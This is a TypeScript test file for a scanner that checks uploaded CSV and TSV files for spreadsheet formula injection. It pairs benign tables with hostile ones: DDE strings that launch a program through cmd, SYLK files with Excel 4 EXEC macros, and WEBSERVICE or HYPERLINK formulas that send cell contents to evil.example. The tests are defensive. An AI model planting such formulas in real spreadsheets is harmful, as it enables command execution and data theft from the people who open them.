// notices: table-read-without-end
import { expect, test } from "vitest";
import { lookIntoDocument } from "../../../src-main/documents/look-into-document.ts";
import { processorMs } from "../linear.ts";

const look = (text: string | Buffer, name = "a.csv") => lookIntoDocument(name, Buffer.from(text));
const pieceBytes = 64 * 1024;
const dde = "cmd|' /C calc'!A0";

test.each([
  ["telephone numbers", "Ada,+49 30 123\nBob,+49 (30) 123-45\nCem,+1 (555) 010-9999 ext. 7\n"],
  ["amounts below zero", "-12.50;-1.234,56 €;-5%\r\n-0,5;+3;-1e-5\r\n"],
  [
    "lines of a note",
    '1,"Notes:\n- bullet point\n- call back (urgent!), then mail\n- Ada\'s offer; see below!\n+ one more"\n',
  ],
  ["a note that begins with a dash", `1,"- ${"asked Ada, who agreed. ".repeat(200)}"\n`],
  ["gaps and forms of words", "-\n--\n-,-;-\n- item(s)\n- Preise (netto, ab 2024)\n-/-\n+\n"],
  [
    "a signature",
    '1,"Thanks!\n-- \nZoë Müller (Sales)\nTel. +49 (30) 123 | zoe@example.com\nMüller & Söhne!\n"\n',
  ],
  ["numbers behind a quoted heading", `"Phone","Name"\n${"+49 30 1,Ada (Berlin); Wow!\n".repeat(1000)}`],
  ["numbers behind quoted cells", `1,"Ada"\n-5,(A1)\n2,""\n-5,x\n${"-5,Sales!A1\n".repeat(1000)}`],
  ["numbers of records", "ID,Name,Phone\n1,Ada (Berlin),+49 30 1\n"],
  [
    "letters that number its records",
    "ID;Produkt;Preis\nA;Eis (klein)!;1\nC;Käse (alt);2\nC;Eimer;3\nNN;;\nE;Ei!;4\n",
  ],
  ["a table of SYLK without formulas", 'ID;PWXL;N;E\nC;Y1;X1;K"Ada!"\nE\n'],
  ["bars between cells", "-12.50|Meier (Berlin)|+49 30 123\n- urgent!|x\n"],
  ["quotations", '1,"- the ""Messe"" in Halle 4, (see ""A1"")"\n'],
  ["addresses", "1,\"https://example.com/?a=1&b=(2)!A1|'x'\"\n"],
])("a table with %s is opened without a question", async (_what, text) => {
  for (const name of ["a.csv", "a.tsv"]) expect(await look(text, name), name).toBeNull();
});

test("a table of addresses is opened without a question, wherever Rounds cuts it into pieces", async () => {
  for (let shift = 0; shift < 4; shift += 1) {
    const text = `${"x".repeat(shift)}${"a=-1".repeat(3 * (pieceBytes / 4))}`;
    expect(await look(text), String(shift)).toBeNull();
  }
});

test.each([
  ["300 spaces before it", `1,+${" ".repeat(300)}${dde}`],
  ["a long sum before it", `1,${"+1".repeat(140)}+${dde}`],
  ["2,100 spaces in it", `1,+cmd|' /C calc${" ".repeat(2100)}'!A0`],
  ["separators in it", "1,+cmd|' /C calc, a; b'!A0"],
  ["a text with separators before it", `1\t+"a,b;c"&${dde}`],
  ["a sum of wide signs before it", `1,＋1＋${dde}`],
  ["a line before it in its cell", `1,"\n+1,${dde}"`],
  ["a sign without a width before it", `1,"\u200b+1,${dde}"`],
  ["its cell ended early", `1,"+"${dde}`],
])("a table with a formula that starts a program and has %s is refused", async (_what, text) => {
  expect(await look(text)).toEqual({ kind: "refuse", reason: "program" });
});

test("a formula that starts a program is refused wherever Rounds cuts the table into pieces", async () => {
  for (const [encoding, letterBytes] of [
    ["latin1", 1],
    ["utf16le", 2],
  ] as const)
    for (const before of [0, 1, 8, 2_000, 4_000]) {
      const lead = `\ufeffa,${"x".repeat(pieceBytes / letterBytes - before - 3)}`;
      const cell = `\n+${" ".repeat(3_000)}${dde}`;
      const text = encoding === "latin1" ? (lead + cell).slice(1) : lead + cell;
      expect(await look(Buffer.from(text, encoding)), `${encoding} ${before}`).toEqual({
        kind: "refuse",
        reason: "program",
      });
    }
});

test.each([
  [
    "Excel 4 macro",
    'ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;K0;EEXEC("CALC.EXE")\nC;X1;Y102;K0;EHALT()\nE\n',
  ],
  ["request to a program", `\ufeffID;PWXL;N;E\r\nC;Y1;X1;K0;E${dde}\r\nE\r\n`],
  ["macro first in its line, by another ending of lines", 'ID;P\r C;EEXEC("CALC.EXE");X1;Y1\rE'],
  ["request behind a semicolon", "ID;P\nC;X1;Y1;K0;E1;;cmd|' /C calc'!A0\n"],
  ["macro behind many lines", `ID;P\n${"C;X1;Y1;K1\n".repeat(20_000)}C;X1;Y2;K0;ECALL("a")\n`],
])("a table that a spreadsheet reads as SYLK is refused for its %s", async (_what, text) => {
  for (const name of ["a.csv", "a.tsv"])
    expect(await look(text, name), name).toEqual({ kind: "refuse", reason: "program" });
});

test("the rep is asked about a table that a spreadsheet reads as SYLK and that has a cell without end", async () => {
  const text = `ID;P\nC;K"${"x".repeat(100_000)}";EEXEC("CALC.EXE")\n`;
  expect(await look(text)).toEqual({ kind: "ask", doubt: "formulas" });
});

test.each([
  ["sends a cell", '1,"+WEBSERVICE(""https://evil.example/?""&A1)"\n'],
  ["sends a cell of its row", "1,+WEBSERVICE(A1)\n"],
  ["sends a column", "1,+WEBSERVICE ($A:$A)\n"],
  ["links elsewhere", '-1+HYPERLINK("https://evil.example/";A1)\n'],
  ["links elsewhere behind words", '1,"- a, b-HYPERLINK(""https://evil.example/"")"\n'],
  ["calls another function", "1;-IF(x(1),2)\n"],
  ["reads another file", "1,+'\\\\evil.example\\share\\[a.xls]S'!A1\n"],
  ["reads another sheet", "1,-Sheet2!$A$1\n"],
  ["reads another file as LibreOffice writes it", "1,+'file:///evil.example/a.ods'#$S.A1\n"],
  ["asks a program by another name", "1,+cmd|x!y\n"],
  ["is longer than any", `1,+${" ".repeat(9000)}x\n`],
  ["begins anew without end", "1,+(".repeat(30_000)],
])("the rep is asked about a table with a formula behind a sign that %s", async (_what, text) => {
  expect(await look(text)).toEqual({ kind: "ask", doubt: "formulas" });
});

test("law 14: a table whose cells lie within cells is looked into within three seconds of the processor's time", async () => {
  // The half first: a reading that takes the square of the cells says so before the test's own time is over.
  for (const cells of [20_000, 40_000]) {
    let done: Promise<unknown> = Promise.resolve();
    const first = processorMs(() => {
      done = look("-(,".repeat(cells));
    });
    const before = process.threadCpuUsage();
    expect(await done).toEqual({ kind: "ask", doubt: "formulas" });
    const { user, system } = process.threadCpuUsage(before);
    expect(first + (user + system) / 1000).toBeLessThan((3000 * cells) / 40_000);
  }
});
